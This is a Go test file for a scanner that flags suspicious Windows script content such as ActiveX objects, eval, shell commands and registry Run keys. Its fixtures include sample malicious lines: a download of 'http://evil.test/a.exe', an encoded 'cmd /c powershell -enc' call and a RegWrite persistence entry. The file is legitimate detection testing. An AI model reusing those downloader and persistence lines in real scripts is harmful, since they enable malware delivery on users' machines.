package analyzer

import (
	"strings"
	"sync"
	"testing"
)

func TestNewScanner(t *testing.T) {
	scanner := NewScanner()

	names := make(map[string]bool)
	for _, p := range scanner.Patterns() {
		names[p.Name] = true
	}

	for _, expected := range []string{
		"activex_object",
		"url",
		"shell_command",
		"registry_run_key",
		"base64_blob",
		"eval_usage",
		"conditional_compilation",
		"encoded_script",
	} {
		if !names[expected] {
			t.Errorf("Expected pattern %s not found", expected)
		}
	}
}

func TestScan_Empty(t *testing.T) {
	if findings := NewScanner().Scan(""); len(findings) != 0 {
		t.Error("Expected no findings for empty script")
	}
}

func TestScan_ActiveXObjects(t *testing.T) {
	script := `
var x = new ActiveXObject("MSXML2.XMLHTTP");
var sh = WScript.CreateObject('WScript.Shell');
var again = new ActiveXObject("msxml2.xmlhttp");
`
	findings := NewScanner().Scan(script)
	values := Values(findings, "activex_object")

	if len(values) != 2 {
		t.Fatalf("Expected 2 distinct objects, got %v", values)
	}
	if values[0] != "MSXML2.XMLHTTP" || values[1] != "WScript.Shell" {
		t.Errorf("Unexpected objects %v", values)
	}
}

func TestScan_URLsAndCommands(t *testing.T) {
	script := `x.open("GET", "http://evil.test/a.exe", false);
sh.Run("cmd /c powershell -enc AAAA", 0);`

	findings := NewScanner().Scan(script)

	urls := Values(findings, "url")
	if len(urls) != 1 || urls[0] != "http://evil.test/a.exe" {
		t.Errorf("Unexpected urls %v", urls)
	}

	commands := Values(findings, "shell_command")
	if len(commands) != 2 {
		t.Errorf("Expected cmd and powershell, got %v", commands)
	}
	if !HasHighSeverity(findings) {
		t.Error("Shell commands should be high severity")
	}
}

func TestScan_EvalUsage(t *testing.T) {
	testCases := []struct {
		name     string
		script   string
		expected int
	}{
		{"Simple eval", `eval("1")`, 1},
		{"Multiple evals", `eval(a); eval(b);`, 2},
		{"Eval in function", `function f() { return eval(s); }`, 1},
		{"Eval as property", `obj.eval(5); obj.evaluate()`, 0},
		{"Identifier suffix", `myeval(1)`, 0},
	}

	scanner := NewScanner()
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			count := 0
			for _, f := range scanner.Scan(tc.script) {
				if f.Type == "eval_usage" {
					count++
					if f.Value != "eval" {
						t.Errorf("Unexpected value %q", f.Value)
					}
				}
			}
			if count != tc.expected {
				t.Errorf("Expected %d eval findings, got %d", tc.expected, count)
			}
		})
	}
}

func TestScan_RegistryAndBlobs(t *testing.T) {
	script := `sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", p);
var blob = "` + strings.Repeat("QUJD", 60) + `";
/*@cc_on @*/`

	findings := NewScanner().Scan(script)
	kinds := make(map[string]bool)
	for _, f := range findings {
		kinds[f.Type] = true
	}
	for _, expected := range []string{"registry_run_key", "base64_blob", "conditional_compilation"} {
		if !kinds[expected] {
			t.Errorf("Expected a %s finding", expected)
		}
	}
}

func TestScan_LineAndColumn(t *testing.T) {
	script := "var a = 1;\n  var b = eval(a);"
	for _, f := range NewScanner().Scan(script) {
		if f.Type != "eval_usage" {
			continue
		}
		if f.Line != 2 || f.Column != 11 {
			t.Errorf("Expected 2:11, got %d:%d", f.Line, f.Column)
		}
		if !strings.Contains(f.Snippet, "eval(a)") {
			t.Errorf("Unexpected snippet %q", f.Snippet)
		}
		return
	}
	t.Fatal("eval not found")
}

func TestScan_OrderedByPosition(t *testing.T) {
	findings := NewScanner().Scan("eval(x);\nnew ActiveXObject('A.B');\nGetObject(\"winmgmts:\\\\\\\\.\\\\root\")")
	for i := 1; i < len(findings); i++ {
		if findings[i].Line < findings[i-1].Line {
			t.Fatalf("Findings out of order: %+v", findings)
		}
	}
}

func TestAddAndRemovePattern(t *testing.T) {
	scanner := NewScanner()

	if err := scanner.AddPattern("bad", `[invalid`, SeverityLow, "bad"); err == nil {
		t.Error("Expected an invalid pattern error")
	}
	if err := scanner.AddPattern("sleep_call", `(?i)\.sleep\s*\(`, SeverityLow, "Sleeps"); err != nil {
		t.Fatalf("Unexpected error: %v", err)
	}
	if len(FilterBySeverity(scanner.Scan(`WScript.Sleep(100)`), SeverityLow)) != 1 {
		t.Error("Custom pattern not applied")
	}

	if !scanner.RemovePattern("sleep_call") {
		t.Error("Expected pattern to be removed")
	}
	if scanner.RemovePattern("sleep_call") {
		t.Error("Pattern removed twice")
	}
}

func TestScannerConcurrentUse(t *testing.T) {
	scanner := NewScanner()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if len(scanner.Scan(`eval(new ActiveXObject("X.Y"))`)) == 0 {
				t.Error("Expected findings")
			}
		}()
	}
	wg.Wait()
}
